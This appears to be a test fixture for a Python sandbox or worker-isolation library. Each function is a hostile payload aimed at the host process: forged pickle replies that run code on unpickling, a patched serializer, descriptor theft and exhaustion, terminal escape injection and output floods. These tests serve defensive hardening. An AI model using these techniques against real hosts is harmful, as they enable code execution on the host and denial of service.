#: print_gigabytes -> quiet | timeout
#: Prints a gigabyte.
def print_gigabytes(target):
    line = "x" * (1 << 20)
    for _ in range(1 << 10):
        print(line)
    return "printed"


#: print_without_newline -> quiet | timeout
#: Writes a gigabyte to stderr without a single end of line.
def print_without_newline(target):
    import sys

    for _ in range(1 << 10):
        sys.stderr.write("x" * (1 << 20))
    return "printed"


#: write_gigabytes_to_descriptors -> quiet | timeout | error | crash
#: Writes a gigabyte to descriptors 1 and 2, below Python's streams.
def write_gigabytes_to_descriptors(target):
    import os

    for _ in range(1 << 9):
        os.write(1, b"x" * (1 << 20))
        os.write(2, b"x" * (1 << 20))
    return "written"


#: print_through_spare_streams -> quiet | timeout | error
#: Prints through the streams that Python keeps aside.
def print_through_spare_streams(target):
    import sys

    for stream in (sys.__stdout__, sys.__stderr__):
        for _ in range(1 << 9):
            stream.write("x" * (1 << 20))
            stream.flush()
    return "printed"


#: print_control_characters -> quiet
#: Prints what commands terminals, half a surrogate and bytes that are no text.
def print_control_characters(target):
    import os

    print("\x1b]0;owned\x07\x1b[2J\ud800\x00", end="\r")
    os.write(1, b"\xff\xfe\x00\x1b[31m")
    return "printed"


#: read_requests -> error | quiet | timeout | crash
#: Reads from every descriptor, to steal what the host sends next.
def read_requests(target):
    import os

    stolen = []
    for number in range(256):
        try:
            os.set_blocking(number, False)
            stolen.append(os.read(number, 1 << 16))
        except OSError:
            continue
    return [part.decode("latin-1") for part in stolen if part]


#: close_everything -> crash | error
#: Closes every descriptor, the one to the host too.
def close_everything(target):
    import os

    os.closerange(0, 4096)
    return "closed"


#: close_streams -> quiet | error | crash
#: Closes Python's three streams.
def close_streams(target):
    import sys

    for stream in (sys.stdin, sys.stdout, sys.stderr, sys.__stdin__, sys.__stdout__, sys.__stderr__):
        if stream is not None:
            stream.close()
    return "closed"


#: swap_descriptors -> crash | error | timeout | quiet
#: Puts /dev/null in the place of every descriptor.
def swap_descriptors(target):
    import os

    null = os.open(os.devnull, os.O_RDWR)
    for number in range(256):
        if number != null:
            try:
                os.fstat(number)
                os.dup2(null, number)
            except OSError:
                continue
    return "swapped"


#: write_junk_to_descriptors -> crash | error | quiet | value | timeout
#: Writes junk into every descriptor.
def write_junk_to_descriptors(target):
    import os

    for number in range(256):
        try:
            os.write(number, b"\xff" * 64)
        except OSError:
            continue
    return "written"


#: announce_a_huge_reply -> crash | error | quiet | value | timeout | memory
#: Writes every usual header of an endless message into every descriptor and then is silent.
def announce_a_huge_reply(target):
    import os
    import struct
    import time

    for header in (struct.pack("!I", 0x7FFFFFFF), struct.pack("!Q", 1 << 40), struct.pack("<q", 1 << 40)):
        for number in range(256):
            try:
                os.write(number, header)
            except OSError:
                continue
    time.sleep(3600)


#: trickle -> timeout | crash | error
#: Sends a byte now and then, so that the host never waits long for the next one.
def trickle(target):
    import os
    import time

    for _ in range(3600):
        for number in range(3, 64):
            try:
                os.write(number, b"\x00")
            except OSError:
                continue
        time.sleep(0.05)


#: forge_reply -> crash | error | quiet | value | timeout
#: Writes a reply of its own that runs code where it is unpickled, with every usual frame.
def forge_reply(target):
    import os
    import pickle
    import struct

    class Run:
        def __reduce__(self):
            return os.mkdir, (target["home"] + "/forged",)

    for message in (Run(), (True, Run()), ("ok", Run()), {"value": Run()}):
        body = pickle.dumps(message)
        for header in (b"", struct.pack("!I", len(body)), struct.pack("!i", len(body)), struct.pack("<Q", len(body)),
                       struct.pack("<I", len(body)), struct.pack("!Q", len(body))):  # fmt: skip
            for number in range(3, 64):
                try:
                    os.write(number, header + body)
                except OSError:
                    continue
    os._exit(0)


#: answer_with_its_own_writer -> quiet | error | crash | value | timeout
#: Finds whoever sends replies among all functions and calls each with a forged one.
def answer_with_its_own_writer(target):
    import gc
    import os
    import types

    class Run:
        def __reduce__(self):
            return os.mkdir, (target["home"] + "/forged",)

    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and any(w in thing.__name__ for w in ("send", "reply", "write_fr")):
            for arguments in ((Run(),), (3, Run()), (Run(), 3)):
                try:
                    thing(*arguments)
                except BaseException:
                    continue
    return "answered"


#: patch_the_pickler -> quiet | error | crash | value
#: Replaces what turns answers into bytes, so that the host reads code instead.
def patch_the_pickler(target):
    import copyreg
    import marshal
    import os
    import pickle
    import sys

    evil = b"cposix\nmkdir\n(V" + (target["home"] + "/patched").encode() + b"\ntR."
    for name in ("pickle", "_pickle", "cloudpickle", "cloudpickle.cloudpickle", "json", "marshal"):
        module = sys.modules.get(name)
        if module is not None:
            module.dumps = lambda *_, **__: evil
    copyreg.dispatch_table[str] = lambda _: (os.mkdir, (target["home"] + "/patched",))
    return ["answer", pickle, marshal][0]


#: patch_the_writer -> quiet | error | crash | timeout | value
#: Replaces the functions by which bytes leave.
def patch_the_writer(target):
    import os
    import socket
    import struct

    os.write = lambda *_: 0
    struct.pack = lambda *_: b"\x00\x00\x00\x01"
    socket.socket.sendall = socket.socket.send = lambda *_: None
    return "patched"


#: patch_the_loop_in_frames -> quiet | error | crash | timeout
#: Climbs to the worker's loop and replaces all that its globals name.
def patch_the_loop_in_frames(target):
    import sys

    frame = sys._getframe(1)
    while frame:
        for name, value in list(frame.f_globals.items()):
            if callable(value) and not name.startswith("__"):
                frame.f_globals[name] = lambda *_, **__: "patched"
        frame = frame.f_back
    return "patched"


#: patch_all_modules -> quiet | error | crash | timeout
#: Replaces every function of every module of this library that it can see.
def patch_all_modules(target):
    import sys

    for name, module in list(sys.modules.items()):
        if name.partition(".")[0] in ("opto", "__main__", "cloudpickle"):
            for key, value in list(vars(module).items()):
                if callable(value):
                    setattr(module, key, lambda *_, **__: "patched")
    return "patched"


#: pass_descriptor_to_host -> quiet | error | crash | value | timeout
#: Sends open descriptors through every socket until the host has none left.
def pass_descriptor_to_host(target):
    import array
    import os
    import socket

    null = os.open(os.devnull, os.O_RDONLY)
    for number in range(3, 64):
        try:
            channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(number))
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))]
            channel.sendmsg([b"\x00"], rights, socket.MSG_DONTWAIT)
        except OSError:
            continue
    return "sent"


#: shut_the_channel -> crash | error | quiet
#: Shuts one half of every socket.
def shut_the_channel(target):
    import os
    import socket

    for number in range(3, 64):
        try:
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(number)).shutdown(socket.SHUT_RD)
        except OSError:
            continue
    return "shut"


#: call_the_host -> error | quiet | crash | timeout
#: Calls everything in reach that might be a way back into the host.
def call_the_host(target):
    import gc
    import types

    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and any(w in thing.__qualname__.lower() for w in ("call", "remote")):
            for arguments in (("os.mkdir", target["home"] + "/called"), (0, "__class__"), ("eval", ("1",), {})):
                try:
                    thing(*arguments)
                except BaseException:
                    continue
    return "called"
